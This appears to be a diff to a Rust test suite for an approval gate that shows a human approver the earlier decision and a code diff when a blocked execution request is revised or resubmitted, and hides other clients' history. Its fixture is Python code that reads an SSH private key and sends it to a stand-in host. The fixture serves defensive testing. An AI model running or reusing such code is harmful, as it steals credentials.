@@ -66,7 +66,15 @@ impl Harness {
     }
 
     async fn publish_assessment(&self, rid: &RequestId, assessment: Assessment, trust: TrustLevel) -> ExecutionRequest {
-        let request = request(trust);
+        self.publish_request(rid, request(trust), assessment).await
+    }
+
+    async fn publish_request(
+        &self,
+        rid: &RequestId,
+        request: ExecutionRequest,
+        assessment: Assessment,
+    ) -> ExecutionRequest {
         let assessed = Assessed {
             request_digest: Some(request.request_digest(rid, &[])),
             request: request.clone(),
@@ -373,4 +381,75 @@ async fn malformed_and_mislabelled_messages_are_refused_not_fatal() {
     let rid2 = RequestId::new_for("mai").unwrap();
     h.assessed(&rid2, Level::Low, TrustLevel::Unknown).await;
     h.next(&rid2, EventKind::Decided).await;
+}
+
+/// What the approver of a revision is told: the request it revises, how that was decided, and
+/// what changed; the same code decided before is named even when nothing says so; another
+/// client's request is never shown.
+#[tokio::test]
+async fn a_revision_comes_with_the_earlier_decision_and_the_diff() {
+    let mut h = Harness::start(60).await;
+    let approver = h.approver.clone();
+    let steal = |url: &str| {
+        ExecutionRequest::new(
+            Language::Python,
+            format!("key = open('/home/u/.ssh/id_rsa').read()\nsend('{url}', key)\nprint('done')\n").into_bytes(),
+        )
+        .origin(Origin::External)
+    };
+    let first = RequestId::new_for("mai").unwrap();
+    h.publish_request(&first, steal("http://203.0.113.9/k"), assessment(Level::Blocked))
+        .await;
+    let Event::OverrideAsked(asked) = h.next(&first, EventKind::OverrideAsked).await.event else {
+        unreachable!()
+    };
+    assert_eq!(asked.earlier, None, "a first request has no history");
+    h.answer(&first, asked.execution_digest, false, &approver).await;
+    h.next(&first, EventKind::Terminal).await;
+
+    let revision = RequestId::new_for("mai").unwrap();
+    let revised = steal("https://paste.example/k").revises(Some(first.clone()));
+    h.publish_request(&revision, revised, assessment(Level::Blocked)).await;
+    let Event::OverrideAsked(asked) = h.next(&revision, EventKind::OverrideAsked).await.event else {
+        unreachable!()
+    };
+    let earlier = asked.earlier.expect("the revised request is shown");
+    assert_eq!(earlier.request_id, first);
+    assert_eq!(earlier.relation, EarlierRelation::Revises);
+    let decision = earlier.decision.expect("how it was decided");
+    assert!(!decision.approved);
+    assert!(
+        matches!(&decision.approver, Approver::Human { who, reason, .. } if who == "tester" && reason == "checked by a test"),
+        "{decision:?}"
+    );
+    let diff = earlier.diff.expect("the diff");
+    assert!(
+        diff.contains("-send('http://203.0.113.9/k', key)\n+send('https://paste.example/k', key)\n"),
+        "{diff}"
+    );
+
+    // The very same code again, without `revises`: named as seen before.
+    let again = RequestId::new_for("mai").unwrap();
+    h.publish_request(&again, steal("http://203.0.113.9/k"), assessment(Level::Blocked))
+        .await;
+    let Event::OverrideAsked(asked) = h.next(&again, EventKind::OverrideAsked).await.event else {
+        unreachable!()
+    };
+    let earlier = asked.earlier.expect("the same code decided before is named");
+    assert_eq!(
+        (earlier.request_id, earlier.relation),
+        (first.clone(), EarlierRelation::SameCode)
+    );
+    assert!(earlier.decision.is_some_and(|d| !d.approved));
+
+    // Another client naming mai's request learns nothing of it.
+    let stranger = RequestId::new_for("other").unwrap();
+    let claims = steal("https://paste.example/k").revises(Some(first.clone()));
+    h.publish_request(&stranger, claims, assessment(Level::Blocked)).await;
+    let Event::OverrideAsked(asked) = h.next(&stranger, EventKind::OverrideAsked).await.event else {
+        unreachable!()
+    };
+    let earlier = asked.earlier.expect("what it claims is said");
+    assert!(earlier.decision.is_none() && earlier.diff.is_none(), "{earlier:?}");
+    assert!(earlier.missing.is_some_and(|m| m.contains("another client")));
 }
